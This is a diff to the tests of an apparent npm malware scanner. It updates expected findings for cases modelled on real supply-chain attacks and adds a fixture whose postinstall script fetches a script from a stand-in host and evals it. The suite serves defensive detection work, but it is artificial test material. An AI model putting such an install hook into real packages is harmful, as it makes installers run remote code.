@@ -882,6 +882,17 @@ def _curl_pipe_sh():
     return repack(base, version="16.4.6", manifest={"scripts": scripts}), base
 
 
+def _postinstall_inline_node():
+    base = real("cross-spawn", "7.0.6")
+    inline = (
+        "node -e \"require('https').get('https://cdn.example-cdn.net/p.js',"
+        "r=>{let s='';r.on('data',c=>s+=c);r.on('end',()=>eval(s))})\""
+    )
+    return repack(
+        base, version="7.0.7", manifest={"scripts": with_scripts(base, postinstall=inline)}
+    ), base
+
+
 def _manifest_swap():
     base = real("ms", "2.1.3")
     staged = repack(base, version="2.1.4", manifest={"name": "ms-js"})
@@ -911,7 +922,7 @@ CASES: list[Case] = [
         _shai_hulud,
         [
             ("install-script", "high", "scripts.postinstall"),
-            ("suspicious-code", "high", "bundle.js"),
+            ("suspicious-code", "high", "bundle.js", 1),
         ],
         "4.1.0",
     ),
@@ -922,7 +933,7 @@ CASES: list[Case] = [
         _shai_hulud_2,
         [
             ("install-script", "high", "scripts.preinstall"),
-            ("suspicious-code", "high", "setup_bun.js"),
+            ("suspicious-code", "high", "setup_bun.js", "@find:child_process"),
             ("suspicious-code", "high", "bun_environment.js"),
         ],
         "4.1.5",
@@ -934,9 +945,9 @@ CASES: list[Case] = [
         _ua_parser,
         [
             ("install-script", "high", "scripts.preinstall"),
-            ("suspicious-code", "high", "preinstall.sh"),
-            ("suspicious-code", "high", "preinstall.bat"),
-            ("dangerous-api", "medium", "preinstall.js"),
+            ("suspicious-code", "high", "preinstall.sh", "@find:curl"),
+            ("suspicious-code", "high", "preinstall.bat", "@find:curl"),
+            ("dangerous-api", "medium", "preinstall.js", "@find:child_process"),
         ],
         "0.7.28",
     ),
@@ -948,7 +959,7 @@ CASES: list[Case] = [
         [
             ("install-script", "high", "scripts.preinstall"),
             ("suspicious-code", "high", "compile.js"),
-            ("suspicious-code", "high", "compile.bat"),
+            ("suspicious-code", "high", "compile.bat", "@find:curl"),
         ],
         "2.0.2",
     ),
@@ -959,7 +970,7 @@ CASES: list[Case] = [
         [
             ("install-script", "high", "scripts.preinstall"),
             ("suspicious-code", "high", "compile.js"),
-            ("suspicious-code", "high", "compile.bat"),
+            ("suspicious-code", "high", "compile.bat", "@find:curl"),
         ],
         "1.2.8",
     ),
@@ -976,7 +987,7 @@ CASES: list[Case] = [
         "flatmap-stream 0.1.1 (Nov 2018): the minified file gained an AES-encrypted payload, "
         "decrypted with the package description and compiled with new module.constructor",
         _flatmap_stream,
-        [("suspicious-code", "high", "index.min.js")],
+        [("suspicious-code", "high", "index.min.js", "@append:index.min.js")],
         "0.1.0",
     ),
     Case(
@@ -986,7 +997,7 @@ CASES: list[Case] = [
         _eslint_scope,
         [
             ("install-script", "high", "scripts.postinstall"),
-            ("suspicious-code", "high", "lib/build.js"),
+            ("suspicious-code", "high", "lib/build.js", "@find:require('https')"),
         ],
         "3.7.1",
     ),
@@ -1003,7 +1014,7 @@ CASES: list[Case] = [
         "node-ipc 10.1.1 (March 2022, CVE-2022-23812, protestware): base64-hidden "
         "geolocation lookup, then overwrites files for Russian and Belarusian IPs",
         _node_ipc,
-        [("suspicious-code", "high", "dao/ssl-geospec.js")],
+        [("suspicious-code", "high", "dao/ssl-geospec.js", "@find:Buffer.from('aHR0")],
         "10.1.0",
     ),
     Case(
@@ -1035,7 +1046,7 @@ CASES: list[Case] = [
         _crossenv,
         [
             ("install-script", "high", "scripts.postinstall"),
-            ("suspicious-code", "high", "package-setup.js"),
+            ("suspicious-code", "high", "package-setup.js", "@find:require('http')"),
         ],
     ),
     Case(
@@ -1043,7 +1054,7 @@ CASES: list[Case] = [
         "@solana/web3.js 1.95.6 (Dec 2024, phished publish access): a changed function "
         "sends secret keys to a new host, sol-rpc.xyz",
         _solana,
-        [("suspicious-code", "high", "lib/index.cjs.js")],
+        [("suspicious-code", "high", "lib/index.cjs.js", "@find:sol-rpc.xyz")],
         "1.95.4",
     ),
     Case(
@@ -1053,7 +1064,7 @@ CASES: list[Case] = [
         _nx,
         [
             ("install-script", "high", "scripts.postinstall"),
-            ("suspicious-code", "high", "telemetry.js"),
+            ("suspicious-code", "high", "telemetry.js", "@find:child_process"),
         ],
         "21.4.1",
     ),
@@ -1064,7 +1075,7 @@ CASES: list[Case] = [
         _rspack,
         [
             ("install-script", "high", "scripts.postinstall"),
-            ("suspicious-code", "high", "support.js"),
+            ("suspicious-code", "high", "support.js", "@find:https"),
         ],
         "1.1.6",
     ),
@@ -1081,7 +1092,7 @@ CASES: list[Case] = [
         "rand-user-agent 2.0.83 (May 2025): an obfuscated RAT hidden past the screen's edge "
         "after thousands of spaces in dist/index.js",
         _rand_user_agent,
-        [("suspicious-code", "high", "dist/index.js")],
+        [("suspicious-code", "high", "dist/index.js", "@append:dist/index.js")],
         "2.0.82",
     ),
     Case(
@@ -1133,7 +1144,7 @@ CASES: list[Case] = [
         "real code",
         _main_to_new_file,
         [
-            ("suspicious-code", "high", "lib/loader.js"),
+            ("suspicious-code", "high", "lib/loader.js", "@find:child_process"),
             ("entry-point-changed", "medium", "main"),
         ],
         "2.1.3",
@@ -1230,6 +1241,17 @@ CASES: list[Case] = [
         "16.4.5",
     ),
     Case(
+        "postinstall-inline-node-eval",
+        "a postinstall running inline node code that fetches a script and evals it (the "
+        "shape of many 2023-2025 typosquats)",
+        _postinstall_inline_node,
+        [
+            ("install-script", "high", "scripts.postinstall"),
+            ("dangerous-script", "high", "scripts.postinstall"),
+        ],
+        "7.0.6",
+    ),
+    Case(
         "package-name-swap",
         "the tarball's package.json names another package than the registry staged",
         _manifest_swap,
@@ -1240,10 +1262,16 @@ CASES: list[Case] = [
 ]
 
 
-def expected_line(case: Case, spec, baseline: bytes | None) -> int | None:
-    """A case's expected line: a number, or ``@append:PATH[+N]`` for the first line
-    appended to PATH (plus N)."""
+def expected_line(spec, path: str, staged: bytes, baseline: bytes | None) -> int | None:
+    """A case's expected line for a finding on ``path``: a number; ``@append:PATH[+N]``,
+    the first line appended to PATH (plus N); ``@find:TEXT``, the line of the staged
+    file where TEXT first appears."""
     if not isinstance(spec, str):
         return spec
+    if spec.startswith("@find:"):
+        data = files_of(staged)[path]["data"]
+        at = data.index(spec.removeprefix("@find:").encode())
+        return data.count(b"\n", 0, at) + 1
     path, _, plus = spec.removeprefix("@append:").partition("+")
+    assert baseline is not None
     return lines_in(baseline, path) + 1 + int(plus or 0)
